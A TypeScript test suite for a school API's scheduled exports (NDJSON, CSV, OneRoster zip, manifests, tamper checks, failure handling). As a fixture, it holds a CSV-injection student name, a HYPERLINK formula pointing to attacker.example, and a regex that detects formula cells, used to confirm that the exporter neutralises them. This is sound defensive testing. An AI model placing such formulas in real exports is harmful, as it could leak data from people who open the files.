// Scheduled exports (issue "Scheduled exports"): a run's files parse back to exactly the records the API
// lists, its manifest matches them, the CSV opens with a standard parser and re-imports, writes during a
// run are handled, a failed or late run leaves no manifest, and verify-export catches tampering.
import { spawn } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gunzipSync } from 'node:zlib';
import { GetObjectCommand, ListObjectsV2Command, type S3Client } from '@aws-sdk/client-s3';
import { parse } from 'csv-parse/sync';
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { handler } from '../functions/exports/run';
import { unflatten } from '../infra/cli/read-rows';
import { runVerifyExport } from '../infra/cli/verify-export/main';
import { type S3Local, startS3Local } from '../infra/local/s3-local';
import { parseExportConfig } from '../shared/config';
import { idFields, oneRosterScopes, recordGroups } from '../shared/domain/groups';
import { restoredCells } from '../shared/exports/csv';
import { type Manifest, runIdAt } from '../shared/exports/manifest';
import { oneRosterHeaders, oneRosterTables } from '../shared/exports/oneroster-csv';
import { createExportServices, type ExportServices } from '../shared/exports/services';
import { createS3Client, type ExportStore, FolderStore } from '../shared/exports/store';
import { createLogger } from '../shared/log';
import { json } from './support/contract';
import { personBody } from './support/fixtures';
import { checkOneRosterZip } from './support/oneroster-zip';
import { startTestApi, TEST_SYNC_LAG_MS, type TestApi } from './support/test-api';

const root = fileURLToPath(new URL('..', import.meta.url));
const tsx = join(root, 'node_modules/tsx/dist/cli.mjs');
const dir = mkdtempSync(join(tmpdir(), 'school-export-'));
const BUCKET = 'school-test-exports';

let api: TestApi;
let s3Local: S3Local;
let s3: S3Client;
let services: ExportServices;
const env = () => ({
  TABLE_NAME: api.tableName,
  TENANT_ID: 'demo',
  AWS_REGION: 'eu-west-1',
  DYNAMODB_ENDPOINT: inject('dynamodbEndpoint'),
  EXPORT_BUCKET: BUCKET,
  S3_ENDPOINT: s3Local.endpoint,
  SYNC_LAG_MS: String(TEST_SYNC_LAG_MS),
  LOG_LEVEL: 'silent',
});

beforeAll(async () => {
  api = await startTestApi();
  s3Local = await startS3Local({ directory: join(dir, 's3'), bucket: BUCKET });
  s3 = createS3Client({ region: 'eu-west-1', endpoint: s3Local.endpoint });
  services = createExportServices(parseExportConfig(env()), createLogger('silent'));
  // The scheduled handler reads its configuration from the environment, as it does in Lambda.
  Object.assign(process.env, env());
}, 60_000);

/** A student whose name a spreadsheet would run as a formula (OWASP, "CSV Injection"). */
const FORMULA_NAME = '=HYPERLINK("https://attacker.example/?leak","Ana") Silva';
let formulaStudent: Record<string, unknown>;
beforeAll(async () => {
  formulaStudent = await json<Record<string, unknown>>(
    await api.send('POST', '/api/students', { ...personBody('CSV'), name: FORMULA_NAME }),
    201,
  );
});
afterAll(async () => {
  services.destroy();
  s3.destroy();
  await s3Local.stop();
  await api.stop();
  rmSync(dir, { recursive: true, force: true });
});

async function object(key: string): Promise<Buffer> {
  const { Body } = await s3.send(new GetObjectCommand({ Bucket: BUCKET, Key: key }));
  return Buffer.from(await (Body as { transformToByteArray(): Promise<Uint8Array> }).transformToByteArray());
}

async function keysUnder(prefix: string): Promise<string[]> {
  const { Contents = [] } = await s3.send(new ListObjectsV2Command({ Bucket: BUCKET, Prefix: prefix }));
  return Contents.map((c) => (c.Key as string).slice(prefix.length)).sort();
}

/** Every record of a group as the API lists it, following cursors. */
async function listed(group: string): Promise<Record<string, unknown>[]> {
  const all: Record<string, unknown>[] = [];
  let cursor: string | undefined;
  do {
    const page = await json<Record<string, unknown>>(
      await api.get(`/api/${group}?items_per_page=500${cursor ? `&cursor=${cursor}` : ''}`),
    );
    all.push(...(page[group] as Record<string, unknown>[]));
    cursor = page.next_cursor as string | undefined;
  } while (cursor);
  return all;
}

/** What a CSV cell can say of a record: empty text and empty lists are empty cells. */
function withoutEmpty(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(withoutEmpty);
  if (value && typeof value === 'object') {
    return Object.fromEntries(
      Object.entries(value)
        // A null (no parent session, no end date) is an empty cell, as an empty string is.
        .filter(([, v]) => v !== '' && v !== null && !(Array.isArray(v) && v.length === 0))
        .map(([k, v]) => [k, withoutEmpty(v)]),
    );
  }
  return value;
}

const sha256 = async (bytes: Buffer) => {
  const { createHash } = await import('node:crypto');
  return createHash('sha256').update(bytes).digest('hex');
};

/** Tests that start the tools as child processes wait seconds for each on a busy machine. */
const CLI_TIMEOUT_MS = 120_000;

/** Runs a command-line tool without blocking this process, which serves the local S3 it may use. */
function cli(
  script: string,
  ...args: string[]
): Promise<{ status: number | null; stdout: string; stderr: string }> {
  const child = spawn(process.execPath, [tsx, script, ...args], {
    cwd: root,
    env: { ...process.env, ...env() },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (chunk: Buffer) => {
    stdout += chunk.toString();
  });
  child.stderr.on('data', (chunk: Buffer) => {
    stderr += chunk.toString();
  });
  return new Promise((resolve) => child.once('close', (status) => resolve({ status, stdout, stderr })));
}

/** `npm run verify-export` in this process (it runs as a child process once, below). */
async function verify(...args: string[]): Promise<{ status: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const status = await runVerifyExport({
    argv: args,
    env: { ...process.env, ...env() },
    out: (line) => {
      stdout += `${line}\n`;
    },
    err: (line) => {
      stderr += `${line}\n`;
    },
  });
  return { status, stdout, stderr };
}

describe('the scheduled export', () => {
  const time = '2026-10-01T02:00:00Z';
  const prefix = `exports/${runIdAt(new Date(time))}/`;
  let manifest: Manifest;

  it('writes NDJSON and CSV per group that parse back to exactly the records the API lists, manifest last', async () => {
    const result = await handler({ time }, { getRemainingTimeInMillis: () => 900_000 });
    expect(result).toEqual({ status: 'complete', location: `s3://${BUCKET}/${prefix}` });
    expect(await keysUnder(prefix)).toEqual(
      [
        ...recordGroups.flatMap((g) => [`${g}.csv`, `${g}.ndjson.gz`]),
        'manifest.json',
        'oneroster-csv.zip',
      ].sort(),
    );
    manifest = JSON.parse((await object(`${prefix}manifest.json`)).toString('utf8')) as Manifest;
    const counts = (await json<{ counts: Record<string, number> }>(await api.get('/api/system'))).counts;
    expect(manifest).toMatchObject({ schema_version: 2, tenant_id: 'demo', run_id: runIdAt(new Date(time)) });
    expect(Date.parse(manifest.finished_at)).toBeGreaterThanOrEqual(Date.parse(manifest.started_at));

    for (const group of recordGroups) {
      const records = await listed(group);
      expect(records.length).toBe(counts[group]);
      expect(manifest.groups[group]).toMatchObject({ total_items: counts[group], attempts: 1 });

      const ndjsonBytes = await object(`${prefix}${group}.ndjson.gz`);
      const lines = gunzipSync(ndjsonBytes).toString('utf8').split('\n');
      expect(lines.pop()).toBe('');
      expect(lines.map((line) => JSON.parse(line))).toEqual(records);

      const csvBytes = await object(`${prefix}${group}.csv`);
      const rows = parse(csvBytes, { columns: true }) as Record<string, string>[];
      expect(rows.map((row) => unflatten(restoredCells(row)))).toEqual(records.map(withoutEmpty));

      for (const [name, bytes, format] of [
        [`${group}.ndjson.gz`, ndjsonBytes, 'ndjson+gzip'],
        [`${group}.csv`, csvBytes, 'csv'],
      ] as const) {
        expect(manifest.files.find((f) => f.name === name)).toEqual({
          name,
          group,
          format,
          records: records.length,
          bytes: bytes.length,
          sha256: await sha256(bytes),
        });
      }
    }
  });

  it('writes a OneRoster CSV 1.2.1 bulk zip that a CSV parser reads and that agrees with the REST binding', async () => {
    const zipBytes = await object(`${prefix}oneroster-csv.zip`);
    expect(manifest.oneroster).toMatchObject({
      name: 'oneroster-csv.zip',
      format: 'oneroster-csv+zip',
      bytes: zipBytes.length,
      sha256: await sha256(zipBytes),
    });
    const files = unzipSync(zipBytes);
    // Every table has rows but lineItemScoreScales: no demo line item is on a class's own scale.
    const written = oneRosterTables.filter((t) => t !== 'lineItemScoreScales');
    expect(Object.keys(files).sort()).toEqual(['manifest.csv', ...written.map((t) => `${t}.csv`)].sort());
    // Cells as a spreadsheet shows them: a neutralised formula's leading quote is not part of its value.
    const table = (name: string) =>
      (parse(Buffer.from(files[name] as Uint8Array), { columns: true }) as Record<string, string>[]).map(
        restoredCells,
      );
    const header = (name: string) =>
      (parse(Buffer.from(files[name] as Uint8Array), { to_line: 1 }) as string[][])[0];

    // OneRoster 1.2 CSV Tables, section 3.1: manifest.csv holds propertyName/value rows.
    expect(header('manifest.csv')).toEqual(['propertyName', 'value']);
    const properties = Object.fromEntries(table('manifest.csv').map((r) => [r.propertyName, r.value]));
    expect(properties).toMatchObject({
      'manifest.version': '1.0',
      'oneroster.version': '1.2',
      'file.orgs': 'bulk',
      'file.academicSessions': 'bulk',
      'file.courses': 'bulk',
      'file.classes': 'bulk',
      'file.users': 'bulk',
      'file.roles': 'bulk',
      'file.enrollments': 'bulk',
      'file.demographics': 'bulk',
      'file.categories': 'bulk',
      'file.scoreScales': 'bulk',
      'file.lineItems': 'bulk',
      'file.lineItemScoreScales': 'absent',
      'file.results': 'bulk',
      'file.resources': 'absent',
      'source.systemName': 'school-api',
      'source.systemCode': 'demo',
    });
    // What a consumer checks first: required columns filled, and every reference naming a row of the zip.
    expect(checkOneRosterZip(files).problems).toEqual([]);
    const accounts = await api.users.list();
    expect(accounts.length).toBeGreaterThan(0);
    const users = new Map(table('users.csv').map((u) => [u.sourcedId, u]));
    for (const account of accounts) expect(users.get(account.entity_id)?.username).toBe(account.username);
    for (const user of users.values())
      if (!accounts.some((a) => a.entity_id === user.sourcedId)) expect(user.username).toBe(user.email);

    const core = await api.token(`${oneRosterScopes.roster} ${oneRosterScopes.demographics}`);
    const rest = async (path: string) =>
      json<Record<string, Record<string, unknown>>>(
        await api.get(`/ims/oneroster/rostering/v1p2/${path}`, { token: core }),
      );
    const refId = (ref: unknown) => (ref as { sourcedId: string } | undefined)?.sourcedId ?? '';
    const listCell = (values: unknown) => (values as string[]).join(',');
    for (const name of written) {
      expect(header(`${name}.csv`)).toEqual([...oneRosterHeaders[name]]);
      const rows = table(`${name}.csv`);
      expect(rows.length).toBe(manifest.oneroster.tables[name]);
      expect(rows.length, `${name}.csv has rows to compare`).toBeGreaterThan(0);
      // A bulk file leaves status and dateLastModified blank (CSV Tables, section 2.1).
      for (const row of rows) expect([row.status, row.dateLastModified]).toEqual(['', '']);
    }
    const entities = await listed('entities');
    expect(table('orgs.csv').length).toBe(entities.filter((e) => e.entity_type === 'organisation').length);
    expect(table('courses.csv').length).toBe(manifest.groups.courses.total_items);
    expect(table('classes.csv').length).toBe(manifest.groups.classes.total_items);
    expect(table('enrollments.csv').length).toBe(manifest.groups.enrollments.total_items);
    expect(table('academicSessions.csv').length).toBe(manifest.groups.academic_sessions.total_items);

    for (const row of table('orgs.csv').slice(0, 3)) {
      const { org } = await rest(`orgs/${row.sourcedId}`);
      expect(row).toMatchObject({
        name: org?.name,
        type: org?.type,
        identifier: org?.identifier,
        parentSourcedId: refId(org?.parent),
      });
    }
    for (const row of table('academicSessions.csv').slice(0, 3)) {
      const { academicSession: s } = await rest(`academicSessions/${row.sourcedId}`);
      expect(row).toMatchObject({
        title: s?.title,
        type: s?.type,
        startDate: s?.startDate,
        endDate: s?.endDate,
        parentSourcedId: refId(s?.parent),
        schoolYear: s?.schoolYear,
      });
      expect(row.startDate).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    }
    for (const row of table('courses.csv').slice(0, 3)) {
      const { course } = await rest(`courses/${row.sourcedId}`);
      expect(row).toMatchObject({
        title: course?.title,
        courseCode: course?.courseCode,
        grades: listCell(course?.grades),
        orgSourcedId: refId(course?.org),
        subjects: listCell(course?.subjects),
      });
    }
    for (const row of table('classes.csv').slice(0, 3)) {
      const { class: cls } = await rest(`classes/${row.sourcedId}`);
      expect(row).toMatchObject({
        title: cls?.title,
        classCode: cls?.classCode,
        classType: cls?.classType,
        location: cls?.location,
        courseSourcedId: refId(cls?.course),
        schoolSourcedId: refId(cls?.school),
        termSourcedIds: ((cls?.terms ?? []) as unknown[]).map(refId).join(','),
        periods: listCell(cls?.periods),
        grades: listCell(cls?.grades),
      });
    }
    for (const row of table('enrollments.csv').slice(0, 3)) {
      const { enrollment } = await rest(`enrollments/${row.sourcedId}`);
      expect(row).toMatchObject({
        classSourcedId: refId(enrollment?.class),
        schoolSourcedId: refId(enrollment?.school),
        userSourcedId: refId(enrollment?.user),
        role: enrollment?.role,
        primary: enrollment?.primary,
        beginDate: enrollment?.beginDate ?? '',
        endDate: enrollment?.endDate ?? '',
      });
    }
    const roles = table('roles.csv');
    for (const row of table('users.csv').slice(0, 3)) {
      const { user } = await rest(`users/${row.sourcedId}`);
      expect(row).toMatchObject({
        enabledUser: user?.enabledUser,
        givenName: user?.givenName,
        familyName: user?.familyName,
        email: user?.email,
        primaryOrgSourcedId: refId(user?.primaryOrg),
        userIds: ((user?.userIds ?? []) as { type: string; identifier: string }[])
          .map((u) => `{${u.type}:${u.identifier}}`)
          .join(','),
      });
      // One row per native role record, at the first of the schools the REST user lists for that role.
      const firstOfEachRole = ((user?.roles ?? []) as Record<string, unknown>[]).filter(
        (r, i, all) => all.findIndex((o) => o.role === r.role) === i,
      );
      expect(
        roles
          .filter((r) => r.userSourcedId === row.sourcedId)
          .map((r) => ({ roleType: r.roleType, role: r.role, org: { sourcedId: r.orgSourcedId } })),
      ).toEqual(
        firstOfEachRole.map((r) => ({
          roleType: r.roleType,
          role: r.role,
          org: { sourcedId: refId(r.org) },
        })),
      );
      expect(row.agentSourcedIds).toBe(
        ((user?.agents ?? []) as { sourcedId: string }[]).map((a) => a.sourcedId).join(','),
      );
      const { demographics } = await rest(`demographics/${row.sourcedId}`);
      expect(table('demographics.csv').find((d) => d.sourcedId === row.sourcedId)).toMatchObject({
        birthDate: demographics?.birthDate,
        sex: demographics?.sex,
        cityOfBirth: demographics?.cityOfBirth,
      });
    }
  });

  it("writes the gradebook's tables as the REST Gradebook binding serves its objects", async () => {
    const files = unzipSync(await object(`${prefix}oneroster-csv.zip`));
    const table = (name: string) =>
      (parse(Buffer.from(files[name] as Uint8Array), { columns: true }) as Record<string, string>[]).map(
        restoredCells,
      );
    const token = await api.token(oneRosterScopes.gradebook);
    const rest = async (path: string) =>
      json<Record<string, Record<string, unknown>>>(
        await api.get(`/ims/oneroster/gradebook/v1p2/${path}`, { token }),
      );
    const refId = (ref: unknown) => (ref as { sourcedId: string } | undefined)?.sourcedId ?? '';
    const cell = (value: unknown) => (value === undefined ? '' : String(value));
    expect(table('categories.csv').length).toBe(manifest.groups.categories.total_items);
    for (const row of table('categories.csv')) {
      const { category } = await rest(`categories/${row.sourcedId}`);
      expect(row).toMatchObject({ title: category?.title, weight: cell(category?.weight) });
    }
    for (const row of table('scoreScales.csv')) {
      const { scoreScale } = await rest(`scoreScales/${row.sourcedId}`);
      const values = scoreScale?.scoreScaleValue as { itemValueLHS: string; itemValueRHS: string }[];
      expect(row).toMatchObject({
        title: scoreScale?.title,
        type: scoreScale?.type,
        classSourcedId: refId(scoreScale?.class),
        scoreScaleValue: values.map((v) => `{${v.itemValueLHS}:${v.itemValueRHS}}`).join(','),
      });
    }
    const lineItems = table('lineItems.csv');
    expect(lineItems.length).toBe(manifest.groups.line_items.total_items);
    for (const row of lineItems.slice(0, 6)) {
      const { lineItem } = await rest(`lineItems/${row.sourcedId}`);
      expect(row).toMatchObject({
        title: lineItem?.title,
        description: lineItem?.description,
        assignDate: String(lineItem?.assignDate).slice(0, 10),
        dueDate: String(lineItem?.dueDate).slice(0, 10),
        classSourcedId: refId(lineItem?.class),
        categorySourcedId: refId(lineItem?.category),
        schoolSourcedId: refId(lineItem?.school),
        // The demo's line items are each in the first grading period.
        academicSessionSourcedId: refId(lineItem?.gradingPeriod),
      });
      // On the tenant's scale of 0 to 20, which the binding has not, a line item gives the scale's range.
      if (lineItem?.resultValueMax !== undefined)
        expect(row.resultValueMax).toBe(cell(lineItem.resultValueMax));
      else expect([row.resultValueMin, row.resultValueMax]).toEqual(['0', '20']);
    }
    const results = table('results.csv');
    expect(results.length).toBe(manifest.groups.results.total_items);
    for (const row of results.slice(0, 6)) {
      const { result } = await rest(`results/${row.sourcedId}`);
      expect(row).toMatchObject({
        lineItemSourcedId: refId(result?.lineItem),
        studentSourcedId: refId(result?.student),
        classSourcedId: refId(result?.class),
        scoreStatus: result?.scoreStatus,
        score: cell(result?.score),
        textScore: cell(result?.textScore),
        scoreDate: result?.scoreDate,
        comment: cell(result?.comment),
      });
    }
  });

  /** A cell a spreadsheet runs: one starting with a formula's character that is not a plain number. */
  const RUNS_AS_FORMULA = /^(?![-+]?(?:\d+\.?\d*|\.\d+)(?:e[-+]?\d+)?$)[=+\-@\t\r]/i;

  it('neutralises cells a spreadsheet would run as formulas, in every CSV it writes', async () => {
    const id = formulaStudent.student_id as string;
    const students = parse(await object(`${prefix}students.csv`), { columns: true }) as Record<
      string,
      string
    >[];
    const student = students.find((row) => row.student_id === id);
    expect(student?.name).toBe(`'${FORMULA_NAME}`);
    expect(student?.['contacts.0.contact']).toBe("'+351 912 345 678");
    expect((await object(`${prefix}students.csv`)).toString('utf8')).toContain(
      `,"'=HYPERLINK(""https://attacker.example/?leak"",""Ana"") Silva",`,
    );
    const files = unzipSync(await object(`${prefix}oneroster-csv.zip`));
    const users = parse(Buffer.from(files['users.csv'] as Uint8Array), { columns: true }) as Record<
      string,
      string
    >[];
    const user = users.find((row) => row.sourcedId === formulaStudent.entity_id);
    expect(user?.givenName).toMatch(/^'=HYPERLINK\(/);
    for (const [name, bytes] of Object.entries(files)) {
      for (const row of parse(Buffer.from(bytes)) as string[][])
        for (const cell of row) expect(cell, `${name}: ${cell}`).not.toMatch(RUNS_AS_FORMULA);
    }
    for (const group of ['students', 'entities']) {
      for (const row of parse(await object(`${prefix}${group}.csv`)) as string[][])
        for (const cell of row) expect(cell, `${group}.csv: ${cell}`).not.toMatch(RUNS_AS_FORMULA);
    }
  });

  it('does nothing when the same scheduled run is invoked again after it completed', async () => {
    const before = await object(`${prefix}manifest.json`);
    const result = await handler({ time }, { getRemainingTimeInMillis: () => 900_000 });
    expect(result.status).toBe('already-complete');
    expect(await object(`${prefix}manifest.json`)).toEqual(before);
  });

  it('writes a CSV whose rows import back into the tenant unchanged', async () => {
    const file = join(dir, 'students.csv');
    writeFileSync(file, await object(`${prefix}students.csv`));
    const result = await cli('infra/cli/import.ts', file, '--group', 'students');
    expect(result.stdout, result.stderr).toMatch(
      new RegExp(`0 created, 0 updated, ${manifest.groups.students.total_items} unchanged, 0 refused`),
    );
  });

  it(
    'passes verify-export, which then catches a tampered file and a missing manifest',
    async () => {
      const ok = await cli('infra/cli/verify-export.ts', `s3://${BUCKET}/${prefix}`);
      expect(ok.status, ok.stderr).toBe(0);
      expect(ok.stdout).toContain('matches its manifest');

      const out = join(dir, 'folder');
      const exported = await cli('infra/cli/export.ts', '--out', out);
      expect(exported.status, exported.stderr).toBe(0);
      expect(exported.stderr).toContain('records');
      const [run] = readdirSync(out);
      const folder = join(out, run as string);
      expect((await verify(folder)).status).toBe(0);

      const csv = join(folder, 'teachers.csv');
      const original = readFileSync(csv);
      const tampered = Buffer.from(original);
      tampered[tampered.length - 3] = tampered[tampered.length - 3] === 0x41 ? 0x42 : 0x41;
      writeFileSync(csv, tampered);
      const caught = await verify(folder);
      expect(caught.status).toBe(1);
      expect(caught.stderr).toMatch(/teachers\.csv: SHA-256 [0-9a-f]{64}, the manifest says/);

      writeFileSync(csv, original.subarray(0, original.length - 10));
      expect((await verify(folder)).stderr).toMatch(/teachers\.csv: \d+ bytes, the manifest says/);
      writeFileSync(csv, original);
      const zip = join(folder, 'oneroster-csv.zip');
      const zipBytes = readFileSync(zip);
      const changedZip = Buffer.from(zipBytes);
      changedZip[40] = (changedZip[40] as number) ^ 0xff;
      writeFileSync(zip, changedZip);
      expect((await verify(folder)).stderr).toMatch(
        /oneroster-csv\.zip: SHA-256 [0-9a-f]{64}, the manifest says/,
      );
      writeFileSync(zip, zipBytes);
      writeFileSync(join(folder, 'notes.txt'), 'x');
      expect((await verify(folder)).stderr).toContain('notes.txt: not listed in the manifest');
      rmSync(join(folder, 'notes.txt'));
      rmSync(join(folder, 'manifest.json'));
      const incomplete = await verify(folder);
      expect(incomplete.status).toBe(1);
      expect(incomplete.stderr).toContain('no manifest.json; the export is incomplete');
    },
    CLI_TIMEOUT_MS,
  );

  it(
    'refuses bad arguments to both tools with a usage line and exit code 2',
    async () => {
      for (const [script, args] of [
        ['infra/cli/export.ts', ['--nope']],
        ['infra/cli/export.ts', ['extra']],
        ['infra/cli/export.ts', ['--out']],
        ['infra/cli/verify-export.ts', []],
        ['infra/cli/verify-export.ts', ['a', 'b']],
        ['infra/cli/verify-export.ts', ['s3://']],
      ] as const) {
        const result =
          script === 'infra/cli/verify-export.ts' ? await verify(...args) : await cli(script, ...args);
        expect(result.status, `${script} ${args.join(' ')}`).toBe(2);
        expect(result.stderr).toContain('usage: npm run');
        expect(result.stderr).not.toContain('    at ');
      }
    },
    CLI_TIMEOUT_MS,
  );

  // Node's own recursive mkdir goes round forever on such a folder (shared/files/make-folder.ts).
  it.runIf(process.platform === 'linux')(
    'reports an --out folder the system refuses, such as one under /proc, instead of hanging',
    async () => {
      const result = await cli('infra/cli/export.ts', '--out', '/proc/school-exports');
      expect(result.status).toBe(1);
      expect(result.stderr).toContain(
        "Export failed: ENOENT: no such file or directory, mkdir '/proc/school-exports'",
      );
      expect(result.stderr).not.toContain('    at ');
    },
    CLI_TIMEOUT_MS,
  );

  it('writes, from the second run on, the OneRoster delta since the run before', async () => {
    const later = '2026-10-02T02:00:00Z';
    const laterPrefix = `exports/${runIdAt(new Date(later))}/`;
    const joined = await json<Record<string, string>>(
      await api.send('POST', '/api/students', personBody('NXT')),
      201,
    );
    await new Promise((resolve) => setTimeout(resolve, TEST_SYNC_LAG_MS + 50));
    const result = await handler({ time: later }, { getRemainingTimeInMillis: () => 900_000 });
    expect(result.status).toBe('complete');
    const next = JSON.parse((await object(`${laterPrefix}manifest.json`)).toString('utf8')) as Manifest;
    expect(next.oneroster_delta?.since).toBe(
      new Date(Date.parse(manifest.started_at) - TEST_SYNC_LAG_MS).toISOString(),
    );
    const files = unzipSync(await object(`${laterPrefix}oneroster-csv-delta.zip`));
    const users = parse(Buffer.from(files['users.csv'] as Uint8Array), { columns: true }) as Record<
      string,
      string
    >[];
    expect(users.map((u) => [u.sourcedId, u.status])).toContainEqual([joined.entity_id, 'active']);
    expect((await verify(`s3://${BUCKET}/${laterPrefix}`)).status).toBe(0);
  });
});

describe('an export run that does not finish', () => {
  it('leaves no manifest when writing fails midway, and the next attempt completes the run', async () => {
    const runId = 'failing-run';
    const store = services.bucketStore(runId);
    const failing: ExportStore = {
      location: store.location,
      exists: (name) => store.exists(name),
      read: (name) => store.read(name),
      list: () => store.list(),
      write: (name, body, type, signal) =>
        name.startsWith('tutors.')
          ? Promise.reject(new Error('the network went away'))
          : store.write(name, body, type, signal),
    };
    await expect(services.exporter.run({ runId, store: failing })).rejects.toThrow('the network went away');
    const written = await keysUnder(`exports/${runId}/`);
    expect(written).toContain('students.ndjson.gz');
    expect(written).not.toContain('manifest.json');

    const retried = await services.exporter.run({ runId, store });
    expect(retried.status).toBe('complete');
    expect(await keysUnder(`exports/${runId}/`)).toContain('manifest.json');
  });

  it('stops without a manifest when its time runs out', async () => {
    const folder = join(dir, 'late');
    await expect(
      services.exporter.run({ runId: 'late', store: new FolderStore(folder), deadline: Date.now() + 50 }),
    ).rejects.toThrow('ran out of time');
    expect(readdirSync(folder)).not.toContain('manifest.json');
  });

  it('reads a group again when a record is created or deleted during its read, so counts match', async () => {
    const folder = join(dir, 'raced');
    let created: string | undefined;
    const result = await services.exporter.run({
      runId: 'raced',
      store: new FolderStore(folder),
      onProgress: async ({ group, attempt }) => {
        if (group !== 'staffs' || attempt !== 1 || created) return;
        const response = await api.send('POST', '/api/staffs', {
          processnumber: 'EXP-RACE-1',
          ative: true,
          name: 'Inês Vaz',
          email: 'ines.vaz@example.org',
          birth_date: '1980-05-17',
        });
        created = ((await response.json()) as Record<string, string>)[idFields.staffs];
      },
    });
    expect(result.status).toBe('complete');
    if (result.status !== 'complete') return;
    const staffs = result.manifest.groups.staffs;
    expect(staffs.attempts).toBe(2);
    const counts = (await json<{ counts: Record<string, number> }>(await api.get('/api/system'))).counts;
    expect(staffs.total_items).toBe(counts.staffs);
    const lines = gunzipSync(readFileSync(join(folder, 'staffs.ndjson.gz')))
      .toString('utf8')
      .trim()
      .split('\n');
    expect(lines).toHaveLength(counts.staffs as number);
    expect(lines.some((line) => line.includes(created as string))).toBe(true);
  });
});
